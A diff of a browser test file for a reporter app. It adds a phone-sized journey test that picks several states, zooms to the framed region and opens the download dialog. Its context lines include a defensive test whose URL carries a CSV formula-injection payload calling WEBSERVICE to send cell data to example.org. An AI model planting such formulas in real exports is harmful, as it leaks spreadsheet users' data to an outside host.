@@ -153,6 +153,28 @@ describe('reporter: a regional image and its data', () => {
     await page.keyboard.press('Escape');
   });
 
+  it('on a phone: several states chosen, offered the zoom, and the framed region', async () => {
+    const { page: phone, context } = await newPage(browser, { viewport: { width: 390, height: 844 } });
+    await openApp(phone);
+    await phone.selectOption('#filter-state', 'NJ');
+    await phone.selectOption('#filter-state-add', 'NY');
+    await phone.selectOption('#filter-state-add', 'PA');
+    await expectCount(phone, agenciesLabel(IN_STATES));
+    await phone.locator('#filter-state-add').scrollIntoViewIfNeeded();
+    await screenshot(phone, 'journey-reporter-phone-1-states');
+    await phone.evaluate(() => window.scrollTo(0, 0));
+    const offer = phone.locator('#zoom-to-selection');
+    await offer.waitFor({ state: 'visible' });
+    await offer.click();
+    await offer.waitFor({ state: 'hidden' });
+    await waitForIdle(phone);
+    await screenshot(phone, 'journey-reporter-phone-2-framed');
+    await phone.click('#download-button');
+    expect(await phone.locator('label[for="download-all"]').textContent()).toContain(agenciesLabel(IN_STATES));
+    await screenshot(phone, 'journey-reporter-phone-3-download');
+    await context.close();
+  });
+
   it('a hostile link cannot plant formulas in the CSV', async () => {
     await openApp(page, 'state=NJ&q=,=1+1,=WEBSERVICE(%22http://example.org/?%22%26A1)');
     await page.click('#download-button');
